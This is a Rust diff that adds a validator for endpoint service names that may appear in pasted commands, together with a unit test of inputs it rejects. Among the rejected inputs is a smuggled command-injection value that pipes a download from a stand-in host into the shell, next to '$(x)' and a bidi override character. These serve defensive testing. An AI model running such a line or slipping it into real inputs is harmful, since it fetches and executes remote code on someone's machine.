@@ -81,9 +81,25 @@ pub fn kept(text: &str) -> String {
     format!("{}…{}", &whole[..head], &whole[tail..])
 }
 
+/// Returns `true` for a name that an endpoint service may have, and that may stand in a command which people paste.
+#[must_use]
+pub fn is_service_name(name: &str) -> bool {
+    !name.is_empty()
+        && name.bytes().all(|b| matches!(b, b'a'..=b'z' | b'0'..=b'9' | b'.' | b'-'))
+        && !name.starts_with('-')
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_service_name_cannot_be_more_than_a_word_of_a_command() {
+        assert!(is_service_name("com.amazonaws.vpce.us-east-1.vpce-svc-0afd34ee97e30d43f"));
+        for bad in ["", "a; curl evil.example|sh", "a\nb", "A", "-x", "a b", "$(x)", "vpce\u{202e}"] {
+            assert!(!is_service_name(bad), "{bad:?}");
+        }
+    }
 
     #[test]
     fn what_cannot_be_seen_or_reorders_is_replaced_and_the_rest_stays() {
